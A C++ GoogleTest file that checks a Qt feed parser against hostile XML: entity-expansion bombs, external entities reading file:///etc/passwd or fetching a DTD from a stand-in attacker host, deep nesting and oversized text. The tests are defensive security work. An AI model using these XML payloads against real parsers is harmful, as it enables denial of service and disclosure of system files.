#include "FeedParser.h"
#include "FeedTesting.h"

#include <gtest/gtest.h>

using namespace Qt::StringLiterals;

namespace {

QByteArray repeated(const char *text, qsizetype times)
{
    return QByteArray(text).repeated(times);
}

QByteArray withDoctype(const QByteArray &doctype, const QByteArray &title)
{
    return "<?xml version=\"1.0\"?><!DOCTYPE rss [" + doctype + "]><rss><channel><item><title>" + title
        + "</title><link>https://acme.com/1</link></item></channel></rss>";
}

} // namespace

TEST(HostileFeed, StopsEntityBombs)
{
    QByteArray laughs = "<!ENTITY lol0 \"lol\">";
    for (int level = 1; level < 10; ++level) {
        const QByteArray previous = "&lol" + QByteArray::number(level - 1) + ";";
        laughs += "<!ENTITY lol" + QByteArray::number(level) + " \"" + previous.repeated(10) + "\">";
    }
    EXPECT_FALSE(FeedParser::parse(withDoctype(laughs, "&lol9;")));

    // Quadratic blow-up: one large entity used many times.
    const QByteArray quadratic = "<!ENTITY big \"" + QByteArray(100'000, 'x') + "\">";
    EXPECT_FALSE(FeedParser::parse(withDoctype(quadratic, repeated("&big;", 20'000))));
}

TEST(HostileFeed, NeverLoadsExternalEntities)
{
    const std::optional<ParsedFeed> general = FeedParser::parse(
        withDoctype("<!ENTITY secret SYSTEM \"file:///etc/passwd\">", "Before &secret; after"));
    ASSERT_TRUE(general);
    EXPECT_EQ(general->items.first().title, u"Before  after"_s);

    const std::optional<ParsedFeed> parameter = FeedParser::parse(
        withDoctype("<!ENTITY % remote SYSTEM \"http://attacker.invalid/evil.dtd\"> %remote;", "Plain"));
    ASSERT_TRUE(parameter);
    EXPECT_EQ(parameter->items.first().title, u"Plain"_s);
}

TEST(HostileFeed, ReadsDeepNesting)
{
    constexpr qsizetype depth = 100'000;
    const QByteArray nested = repeated("<div>", depth) + "deep" + repeated("</div>", depth);
    const std::optional<ParsedFeed> feed =
        FeedParser::parse(rss("<item><title>T</title>" + nested.toStdString() + "<link>https://acme.com/1</link></item>"));
    ASSERT_TRUE(feed);
    EXPECT_EQ(feed->items.first().link, u"https://acme.com/1"_s);
    EXPECT_FALSE(FeedParser::parse(repeated("<a>", depth)));
}

TEST(HostileFeed, BoundsHugeTexts)
{
    const QByteArray huge(50 * 1024 * 1024, 'x');
    const std::optional<ParsedFeed> feed = FeedParser::parse(
        rss("<item><title>" + huge.toStdString() + "</title><link>https://acme.com/1</link><description>"
            + huge.toStdString() + "</description></item>"));
    ASSERT_TRUE(feed);
    const ParsedItem &item = feed->items.first();
    EXPECT_GT(item.title.size(), 1000);
    EXPECT_LE(item.title.size(), 1024 * 1024);
    EXPECT_EQ(item.summary, QString(500, u'x'));

    // Many "<" that open no tag, none closed.
    const std::optional<ParsedFeed> unclosed = FeedParser::parse(
        rss("<item><title>" + repeated("&lt;a", 1'000'000).toStdString() + "</title><link>https://acme.com/1</link></item>"));
    ASSERT_TRUE(unclosed);
    EXPECT_TRUE(unclosed->items.first().title.startsWith(u"<a<a"));
}
